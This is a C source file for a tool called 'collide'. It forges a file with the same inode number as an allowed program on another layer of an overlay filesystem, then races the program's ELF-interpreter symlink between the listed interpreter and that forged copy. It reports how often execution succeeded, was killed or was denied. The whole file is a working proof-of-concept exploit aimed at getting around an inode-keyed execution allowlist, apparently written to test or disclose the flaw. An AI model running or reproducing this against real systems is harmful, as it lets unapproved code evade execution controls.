/*
 * collide PROGRAM EVIL LISTED INTERPRETER COUNT - gives a copy of EVIL the
 * inode number of PROGRAM, on another file system of the same overlay, and
 * executes PROGRAM while the link INTERPRETER, its ELF interpreter, flips
 * between LISTED and that copy. Prints how often which happened.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char copy[] = "/tmp/collision";

/* Inodes of a tmpfs count upwards. */
static int open_inode(ino_t wanted)
{
	struct stat st = {0};
	int fd = -1;

	while (st.st_ino < wanted) {
		close(fd);
		unlink(copy);
		fd = open(copy, O_RDWR | O_CREAT | O_EXCL, 0755);
		if (fd < 0 || fstat(fd, &st) < 0)
			err(2, "%s", copy);
	}
	if (st.st_ino != wanted)
		errx(2, "no file of inode %ju", (uintmax_t)wanted);
	return fd;
}

static void point(const char *link, const char *to)
{
	char other[256];

	snprintf(other, sizeof(other), "%s.next", link);
	unlink(other);
	if (symlink(to, other) < 0 || rename(other, link) < 0)
		err(2, "%s", link);
}

static pid_t flip(const char *link, const char *listed)
{
	pid_t pid = fork();

	while (pid == 0) {
		point(link, copy);
		point(link, listed);
	}
	return pid;
}

int main(int argc, char **argv)
{
	int ran = 0, killed = 0, denied = 0, status;
	struct stat program;

	if (argc != 6 || stat(argv[1], &program) < 0)
		errx(2, "usage: collide PROGRAM EVIL LISTED INTERPRETER COUNT");
	int evil = open(argv[2], O_RDONLY);
	int fd = open_inode(program.st_ino);

	if (evil < 0 || sendfile(fd, evil, NULL, 1 << 24) <= 0)
		err(2, "%s", argv[2]);
	close(fd);
	point(argv[4], argv[3]);
	pid_t flipper = flip(argv[4], argv[3]);

	for (int i = atoi(argv[5]); i > 0; i--) {
		pid_t pid = fork();

		if (pid == 0) {
			execl(argv[1], argv[1], (char *)NULL);
			_exit(126);
		}
		waitpid(pid, &status, 0);
		killed += WIFSIGNALED(status);
		denied += WIFEXITED(status) && WEXITSTATUS(status) == 126;
		ran += WIFEXITED(status) && WEXITSTATUS(status) != 126;
	}
	kill(flipper, SIGKILL);
	printf("ran %d killed %d denied %d\n", ran, killed, denied);
	return 0;
}
